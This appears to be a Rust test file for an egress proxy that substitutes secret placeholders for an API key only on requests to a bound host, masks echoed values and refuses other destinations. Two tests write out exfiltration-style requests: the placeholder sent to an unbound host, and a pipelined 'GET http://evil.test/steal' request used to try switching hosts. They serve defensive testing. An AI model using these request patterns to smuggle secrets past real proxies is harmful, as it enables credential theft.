//! Secrets by placeholder: a call that binds `API_KEY` to `api.test` holds a placeholder;
//! through the proxy (TLS ended with the workspace's egress CA) the bound server gets the
//! value, any other host gets a refusal, and answers never carry the value back.

use std::collections::BTreeMap;

use skillbox_protocol::skill::SecretBinding;

use super::*;
use crate::proxy::roots::ExtraRoots;
use crate::proxy::secrets::CallSecrets;
use crate::random::SystemSource;

pub(super) const VALUE: &str = "sk-test-value";

/// A call of a skill reaching `api.test:PORT` and `web.test:WEB`, with `API_KEY` bound to
/// `api.test:PORT`; the proxy trusts the test server's certificate. Returns the rig and
/// the placeholder.
pub(super) fn secret_rig(
    port: u16,
    web: u16,
    cert: &ApiCert,
    config: EgressConfig,
) -> (Rig, String) {
    let api = format!("api.test:{port}");
    let webs = format!("http://web.test:{web}");
    let skill = skill(&[api.clone(), webs.clone()]);
    let bindings = [SecretBinding {
        name: "API_KEY".into(),
        hosts: vec![api.clone()],
    }];
    let values = BTreeMap::from([("API_KEY".to_string(), SecretValue(VALUE.into()))]);
    let (env, secrets) = CallSecrets::bind(&bindings, &values, &SystemSource::default()).unwrap();
    let in_flight = Arc::new(InFlight::default());
    let call = in_flight.insert_with_secrets_for_test(CALL, skill, TOKEN, secrets);
    let extra = ExtraRoots {
        certs: vec![cert.cert.clone()],
        pem: String::new(),
    };
    let allow = [api, format!("web.test:{web}")];
    let rig = Rig::around(in_flight, call, config, &allow, extra);
    (rig, env["API_KEY"].0.clone())
}

/// A TLS client of the program: it trusts only the proxy's egress CA.
async fn program_tls<S: AsyncRead + AsyncWrite + Unpin>(
    io: S,
    trust: &EgressTrust,
) -> std::io::Result<tokio_rustls::client::TlsStream<S>> {
    use rustls::pki_types::pem::PemObject;
    let mut roots = rustls::RootCertStore::empty();
    roots
        .add(CertificateDer::from_pem_slice(trust.ca_pem().as_bytes()).unwrap())
        .unwrap();
    let config = rustls::ClientConfig::builder_with_provider(provider())
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth();
    let name = ServerName::try_from("api.test").unwrap();
    tokio_rustls::TlsConnector::from(Arc::new(config))
        .connect(name, io)
        .await
}

/// Sends one request over `io` and returns status, `X-Skillbox-Refused` and body.
pub(super) async fn send<S: AsyncRead + AsyncWrite + Unpin + Send + 'static>(
    io: S,
    req: Request<Full<Bytes>>,
) -> (u16, String, String) {
    let (mut sender, conn) = hyper::client::conn::http1::handshake(TokioIo::new(io))
        .await
        .unwrap();
    tokio::spawn(conn);
    let resp = sender.send_request(req).await.unwrap();
    let status = resp.status().as_u16();
    let refused = resp
        .headers()
        .get("x-skillbox-refused")
        .map(|v| v.to_str().unwrap().to_string())
        .unwrap_or_default();
    let body = resp.into_body().collect().await.unwrap().to_bytes();
    (status, refused, String::from_utf8_lossy(&body).into_owned())
}

/// A program's TLS connection to `api.test` through the proxy.
pub(super) async fn connect_api(
    rig: &Rig,
    port: u16,
) -> (impl AsyncRead + AsyncWrite + Unpin + Send, JoinHandle<()>) {
    let (mut program, task) = rig.open();
    let answer = ask(
        &mut program,
        &format!("CONNECT api.test:{port} HTTP/1.1\r\nHost: api.test:{port}\r\n\r\n"),
    )
    .await;
    assert_eq!(answer, "HTTP/1.1 200 Connection established\r\n\r\n");
    let tls = program_tls(program, &rig.trust).await.unwrap();
    (tls, task)
}

#[tokio::test]
async fn the_bound_host_gets_the_value_in_place_of_the_placeholder() {
    let cert = api_cert();
    let server = api_server(&cert).await;
    let port = server.port;
    let (rig, placeholder) = secret_rig(port, 9, &cert, pinned());
    assert!(placeholder.starts_with("skillbox-secret:"));
    let (tls, task) = connect_api(&rig, port).await;
    let req = Request::get(format!("/auth?key={placeholder}"))
        .header("host", format!("api.test:{port}"))
        .header("authorization", format!("Bearer {placeholder}"))
        .body(Full::new(Bytes::new()))
        .unwrap();
    let (status, refused, body) = send(tls, req).await;
    assert_eq!(
        (status, refused.as_str(), body.as_str()),
        (200, "", "authorized")
    );
    let entry = only_entry(&rig, task).await;
    assert_eq!(entry.verdict, EgressVerdict::Allowed, "{entry:?}");
    assert!(entry.bytes_out > 0 && entry.bytes_in > 0, "{entry:?}");
}

#[tokio::test]
async fn a_server_echoing_the_value_gives_the_program_a_mask() {
    let cert = api_cert();
    let server = api_server(&cert).await;
    let port = server.port;
    let (rig, placeholder) = secret_rig(port, 9, &cert, pinned());
    let (tls, task) = connect_api(&rig, port).await;
    let req = Request::get("/echo")
        .header("host", format!("api.test:{port}"))
        .header("x-api-key", placeholder.as_str())
        .body(Full::new(Bytes::new()))
        .unwrap();
    let (status, _, body) = send(tls, req).await;
    assert_eq!(status, 200);
    assert!(!body.contains(VALUE), "the value came back: {body}");
    assert!(
        body.contains(&format!("x-api-key: {}", "*".repeat(VALUE.len()))),
        "{body}"
    );
    drop(only_entry(&rig, task).await);
}

#[tokio::test]
async fn a_placeholder_in_a_body_is_refused_unless_the_operator_allows_bodies() {
    let cert = api_cert();
    let server = api_server(&cert).await;
    let port = server.port;
    let post = |placeholder: &str| {
        Request::post("/echo")
            .header("host", format!("api.test:{port}"))
            .body(Full::new(Bytes::from(format!(
                "{{\"key\":\"{placeholder}\"}}"
            ))))
            .unwrap()
    };
    let (rig, placeholder) = secret_rig(port, 9, &cert, pinned());
    let (tls, task) = connect_api(&rig, port).await;
    let (status, refused, _) = send(tls, post(&placeholder)).await;
    assert_eq!(status, 403);
    assert!(refused.contains("secrets_in_body"), "{refused}");
    let entry = only_entry(&rig, task).await;
    assert_eq!(entry.verdict, EgressVerdict::Refused, "{entry:?}");

    let allowed = EgressConfig {
        secrets_in_body: true,
        ..pinned()
    };
    let (rig, placeholder) = secret_rig(port, 9, &cert, allowed);
    let (tls, task) = connect_api(&rig, port).await;
    let (status, _, body) = send(tls, post(&placeholder)).await;
    assert_eq!(status, 200);
    // The server got the value (its echo comes back masked, at the value's length).
    assert!(
        body.contains(&format!("{{\"key\":\"{}\"}}", "*".repeat(VALUE.len()))),
        "{body}"
    );
    let length = "{\"key\":\"\"}".len() + VALUE.len();
    assert!(
        body.contains(&format!("content-length: {length}")),
        "the length is the value's: {body}"
    );
    drop(only_entry(&rig, task).await);
}

#[tokio::test]
async fn a_placeholder_sent_to_an_unbound_host_is_refused_as_exfiltration() {
    let cert = api_cert();
    let web = web_server().await;
    let (rig, placeholder) = secret_rig(8443, web.port, &cert, pinned());
    let w = web.port;
    for (what, line, header) in [
        ("query", format!("/echo?k={placeholder}"), String::new()),
        ("header", "/echo".to_string(), placeholder.clone()),
    ] {
        let (mut program, task) = rig.open();
        let mut head = format!("GET http://web.test:{w}{line} HTTP/1.1\r\nHost: web.test:{w}\r\n");
        if !header.is_empty() {
            head.push_str(&format!("X-Key: {header}\r\n"));
        }
        head.push_str("Connection: close\r\n\r\n");
        let answer = ask_all(&mut program, &head).await;
        assert!(answer.starts_with("HTTP/1.1 403"), "{what}: {answer}");
        assert!(answer.contains("exfiltration attempt"), "{what}: {answer}");
        assert!(!answer.contains(VALUE), "{what}: {answer}");
        task.await.unwrap();
    }
    let entries = rig.entries();
    assert_eq!(entries.len(), 2, "{entries:?}");
    for e in &entries {
        assert_eq!(e.verdict, EgressVerdict::Refused, "{e:?}");
        assert!(e.reason.as_deref().unwrap().contains("API_KEY"), "{e:?}");
    }
    // The same connection without the placeholder goes through.
    let (mut program, task) = rig.open();
    let answer = ask_all(
        &mut program,
        &format!("GET http://web.test:{w}/hello HTTP/1.1\r\nHost: web.test:{w}\r\nConnection: close\r\n\r\n"),
    )
    .await;
    assert!(
        answer.starts_with("HTTP/1.1 200") && answer.ends_with("hello"),
        "{answer}"
    );
    task.await.unwrap();
}

#[tokio::test]
async fn a_plain_connection_cannot_switch_hosts() {
    let cert = api_cert();
    let web = web_server().await;
    let (rig, _) = secret_rig(8443, web.port, &cert, pinned());
    let w = web.port;
    let (mut program, task) = rig.open();
    let answer = ask_all(
        &mut program,
        &format!(
            "GET http://web.test:{w}/hello HTTP/1.1\r\nHost: web.test:{w}\r\n\r\n\
             GET http://evil.test/steal HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
        ),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(
        answer.contains("one proxy connection reaches one host"),
        "{answer}"
    );
    task.await.unwrap();
}

#[tokio::test]
async fn a_program_that_does_not_trust_the_egress_ca_gets_nothing_through() {
    let cert = api_cert();
    let server = api_server(&cert).await;
    let port = server.port;
    let (rig, _) = secret_rig(port, 9, &cert, pinned());
    let (mut program, task) = rig.open();
    let answer = ask(
        &mut program,
        &format!("CONNECT api.test:{port} HTTP/1.1\r\n\r\n"),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    // It trusts the real server's certificate, not the egress CA.
    assert!(tls_client(program, &cert, Some("api.test")).await.is_err());
    let entry = only_entry(&rig, task).await;
    assert_eq!(entry.verdict, EgressVerdict::Refused, "{entry:?}");
    assert!(entry.reason.unwrap().contains("egress CA"));
}

#[tokio::test]
async fn a_body_over_the_inspected_limit_is_refused_with_the_key_that_sets_it() {
    let cert = api_cert();
    let server = api_server(&cert).await;
    let port = server.port;
    let small = EgressConfig {
        max_inspected_body_bytes: 64,
        ..pinned()
    };
    let (rig, _) = secret_rig(port, 9, &cert, small);
    let (tls, task) = connect_api(&rig, port).await;
    let req = Request::post("/echo")
        .header("host", format!("api.test:{port}"))
        .body(Full::new(Bytes::from(vec![b'x'; 65])))
        .unwrap();
    let (status, refused, _) = send(tls, req).await;
    assert_eq!(status, 413);
    assert!(refused.contains("max_inspected_body_bytes"), "{refused}");
    let entry = only_entry(&rig, task).await;
    assert_eq!(entry.verdict, EgressVerdict::Refused, "{entry:?}");
}
